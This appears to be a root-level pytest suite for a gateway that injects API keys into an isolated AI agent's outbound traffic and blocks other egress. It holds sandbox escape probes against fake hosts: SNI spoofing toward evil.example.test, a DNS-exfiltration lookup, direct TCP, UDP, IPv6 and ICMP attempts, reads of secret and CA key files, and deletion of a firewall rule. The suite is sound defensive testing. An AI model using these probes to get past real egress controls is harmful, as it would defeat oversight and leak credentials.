"""The pod (`keyward run --isolate` machinery), attacked from the agent's uid with no proxy
variables: everything here is an attempt with an observable result, in real namespaces.

Topology: a pod namespace (gateway as proxy uid + agent as uid 65534) linked by veth to an
upstream namespace holding fake hosts on documentation addresses.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from gateway.netfilter.rules import render_all
from gateway.pod.contract import DEFAULT_PROBES, check_script
from gateway.tls.ca import CertificateAuthority
from tests.support.pod import API, OTHER, V6, PodWorld, pod_world

pytestmark = pytest.mark.root

ROOT = Path(__file__).resolve().parent.parent
REAL_KEY = "sk-test-PODSECRET-0123456789abcdefXYZ"

CONFIG = """version: 1
secrets:
  key: {{ env: TEST_API_KEY }}
egress:
  default: deny
  hosts:
    api.example.test:
      headers: {{ Authorization: "Bearer {{key}}" }}
    "plain.example.test:80":
      headers: {{ X-Key: "{{key}}" }}
      plain_http: true
    other.example.test: {{}}
placeholders:
  TEST_API_KEY: {{ secret: key }}
upstream:
  ca_bundle: {ca}
  resolve:
    "api.example.test:443": "{api}:443"
    "plain.example.test:80": "{api}:80"
    "other.example.test:443": "{other}:443"
audit:
  path: {audit}
"""


@pytest.fixture(scope="module")
def world(root_ok: None) -> Iterator[PodWorld]:
    names = ["api.example.test", "plain.example.test", "other.example.test"]
    with pod_world(CONFIG, names, {"TEST_API_KEY": REAL_KEY}) as w:
        yield w


def curl(world: PodWorld, *args: str) -> subprocess.CompletedProcess[str]:
    return world.agent("curl", "-sS", "--max-time", "30", *args)  # a hang bound


def test_agent_env_has_trust_and_placeholder_but_no_secret(world: PodWorld) -> None:
    r = world.agent("env")
    assert REAL_KEY not in r.stdout
    env = dict(line.split("=", 1) for line in r.stdout.splitlines() if "=" in line)
    assert env["TEST_API_KEY"].startswith("sk-") and env["TEST_API_KEY"] != REAL_KEY
    assert env["SSL_CERT_FILE"].endswith("ca-bundle.crt")
    assert not any("PROXY" in k.upper() for k in env)


def test_https_transparently_gets_the_key(world: PodWorld) -> None:
    r = curl(world, "https://api.example.test/v1/x")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["headers"]["Authorization"] == "Bearer [REDACTED]"
    hit = [s for s in world.seen() if s.get("path") == "/v1/x"]
    assert hit and hit[-1]["headers"]["Authorization"] == f"Bearer {REAL_KEY}"  # type: ignore[index]
    rec = next(r for r in reversed(world.audit()) if r["path"] == "/v1/x")
    assert rec["host"] == "api.example.test" and rec["decision"] == "allow"


def test_plain_http_transparently_gets_the_key(world: PodWorld) -> None:
    r = curl(world, "http://plain.example.test/plain")
    assert r.returncode == 0, r.stderr
    hit = [s for s in world.seen() if s.get("path") == "/plain"]
    assert hit and hit[-1]["headers"]["X-Key"] == REAL_KEY  # type: ignore[index]
    assert REAL_KEY not in r.stdout


def test_node_fetch_works_without_proxy_settings(world: PodWorld) -> None:
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    r = world.agent(
        node, "-e",
        "fetch('https://api.example.test/node').then(r => r.json())"
        ".then(j => console.log(j.headers.authorization || j.headers.Authorization))",
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip() == "Bearer [REDACTED]"
    hit = [s for s in world.seen() if s.get("path") == "/node"]
    assert hit and hit[-1]["headers"]["Authorization"] == f"Bearer {REAL_KEY}"  # type: ignore[index]


def test_client_reading_no_trust_variable_trusts_the_system_bundle(world: PodWorld) -> None:
    """The combined bundle is bound over the system bundle path in the agent's view: a client
    run with an empty environment (no SSL_CERT_FILE, no CURL_CA_BUNDLE) trusts the gateway."""
    r = world.agent("env", "-i", "PATH=/usr/bin:/bin", "curl", "-sS", "--max-time", "30",
                    "https://api.example.test/system-bundle")  # fmt: skip
    assert r.returncode == 0, r.stderr
    hit = [s for s in world.seen() if s.get("path") == "/system-bundle"]
    assert hit and hit[-1]["headers"]["Authorization"] == f"Bearer {REAL_KEY}"  # type: ignore[index]


def test_denied_host_gets_403(world: PodWorld) -> None:
    r = curl(world, "-w", "\n%{http_code}", "--resolve",
             f"evil.example.test:443:{API}", "https://evil.example.test/")  # fmt: skip
    body, _, status = r.stdout.rpartition("\n")
    assert status == "403"
    # transparent mode answers with the same readable refusal as the explicit proxy
    assert body.startswith("keyward refused this request: GET https://"), body
    assert "port 443, method GET, path /" in body
    assert not [s for s in world.seen() if s.get("host") == "evil.example.test"]
    rec = next(r for r in reversed(world.audit()) if r["status"] == 403)
    assert rec["refusal"] == "explain"


def test_sni_of_allowed_host_at_another_ip_does_not_get_the_key(world: PodWorld) -> None:
    """The agent claims api.example.test but dials OTHER: keyward never answered that pairing."""
    before = len(world.seen())
    r = curl(world, "-o", "/dev/null", "-w", "%{http_code}", "--resolve",
             f"api.example.test:443:{OTHER}", "https://api.example.test/steal")  # fmt: skip
    assert r.stdout == "403"
    leaked = [s for s in world.seen()[before:] if REAL_KEY in json.dumps(s)]
    assert leaked == []
    rec = next(r for r in reversed(world.audit()) if r["path"] == "/steal")
    assert rec["decision"] == "deny"


def test_dns_only_allowed_names(world: PodWorld) -> None:
    script = (
        "import socket,sys\n"
        "for n in sys.argv[1:]:\n"
        "    try: print(n, sorted({a[4][0] for a in socket.getaddrinfo(n, 443, socket.AF_INET)}))\n"
        "    except socket.gaierror as e: print(n, 'ERR', e.errno)\n"
    )
    r = world.agent(sys.executable, "-c", script, "api.example.test", "evil.example.test",
                    "x" * 60 + ".exfil.example.test")  # fmt: skip
    lines = r.stdout.splitlines()
    assert lines[0] == f"api.example.test ['{API}']"
    assert "ERR" in lines[1] and "ERR" in lines[2]


def test_contract_attacks_all_fail(world: PodWorld) -> None:
    """Direct TCP (allowed address on a port without a rule, other addresses), UDP, IPv6, DNS
    exfiltration and TXT, the control socket, the engine sockets, and secrets/CA key in files."""
    script = world.pod.work / "contract_check.py"
    script.write_text(check_script())
    spec = {
        **DEFAULT_PROBES,
        "direct_tcp": [[API, 9999], [API, 22], [OTHER, 9999]],
        "ipv6_tcp": [[V6, 9999], [V6, 443]],
        "udp": [[API, 9999]],
        "dns_denied": ["keyward-exfil-6b6579.evil.example.test"],
        "dns_txt": ["api.example.test"],
        "unix_sockets": [str(world.pod.state_dir / "control" / "keyward.sock")],
        "control_tcp": [["127.0.0.1", 8090]],
        "scan_roots": [str(world.pod.work), str(world.base / "state")],
        "config_files": [str(world.base / "keyward.yaml")],
        "state_dirs": [str(world.pod.state_dir)],
        "ca_key_files": [str(world.pod.state_dir / "ca" / "ca-key.pem")],
        "secret_hashes": [
            {"len": len(REAL_KEY), "sha256": hashlib.sha256(REAL_KEY.encode()).hexdigest()}
        ],
        "ca_key_line_sha256": CertificateAuthority.load_or_create(world.pod.state_dir).key_probe(),
    }
    r = world.pod.run_agent([sys.executable, str(script)], input=json.dumps(spec), timeout=120)
    results = json.loads(r.stdout.strip().splitlines()[-1])
    failed = [x for x in results if not x["ok"]]
    assert failed == [], failed
    assert len(results) >= 18
    checks = {x["check"]: x["detail"] for x in results}
    assert "read 0 bytes" in checks["config and .env not readable"]
    assert "0 entries" in checks["state dir not readable"]
    assert checks["gateway memory not readable"] != "no gateway process visible"
    canaries = [s for s in world.seen() if "tcp" in s or "udp" in s]
    assert canaries == []


def test_ping_fails(world: PodWorld) -> None:
    world.topo.pod.sysctl("net.ipv4.ping_group_range", "0 2147483647")
    r = world.agent(sys.executable, "-c", (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\n"
        "s.settimeout(3)\n"
        "s.sendto(b'\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01', ('" + API + "', 0))\n"
        "try:\n    s.recv(64); print('REPLY')\nexcept OSError as e:\n    print('BLOCKED', e)\n"
    ))  # fmt: skip
    assert "REPLY" not in r.stdout, r.stdout + r.stderr


def test_netfilter_verify_detects_a_deleted_rule(world: PodWorld) -> None:
    ns = world.topo.pod.name
    base = [sys.executable, "-m", "gateway", "netfilter", "verify", "--netns", ns,
            "--proxy-uid", str(world.pod.proxy_uid)]  # fmt: skip
    ok = subprocess.run(base, capture_output=True, text=True, timeout=30)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    rules = render_all(world.pod.proxy_uid, world.pod.ports)
    assert rules  # the rendered set the gateway applied
    live = subprocess.run(["ip", "netns", "exec", ns, "iptables", "-S", "KEYWARD-OUT"],
                          capture_output=True, text=True, check=True).stdout.splitlines()  # fmt: skip
    victim = next(line for line in live if "REJECT" in line)
    subprocess.run(["ip", "netns", "exec", ns, "iptables", *victim.replace("-A", "-D", 1).split()],
                   check=True)  # fmt: skip
    drift = subprocess.run(base, capture_output=True, text=True, timeout=30)
    assert drift.returncode == 1
    assert "REJECT" in drift.stdout + drift.stderr
    subprocess.run(["ip", "netns", "exec", ns, "iptables", *victim.split()], check=True)


def test_zz_gateway_killed_fails_closed(world: PodWorld) -> None:
    """Runs last: after kill -9 new connections are refused (a reset, not a hang: the 20 s
    bounds only catch one) and nothing gets out."""
    before = len(world.seen())
    world.pod.stop_gateway(kill=True)
    r = curl(world, "--max-time", "20", "-o", "/dev/null", "https://api.example.test/after-kill")
    assert r.returncode != 0  # the gateway's DNS listener is gone too
    r = curl(world, "--max-time", "20", "--resolve", f"api.example.test:443:{API}",
             "-o", "/dev/null", "https://api.example.test/after-kill")  # fmt: skip
    assert r.returncode == 7, r.stderr  # 7: could not connect (refused); 28 would be a hang
    r = world.agent(sys.executable, "-c", (
        "import socket\n"
        f"try:\n    socket.create_connection(('{API}', 9999), timeout=20).recv(10); print('LEAK')\n"
        "except OSError as e:\n    print(type(e).__name__, e)\n"
    ))  # fmt: skip
    assert r.stdout.startswith("ConnectionRefusedError"), r.stdout
    assert world.seen()[before:] == []
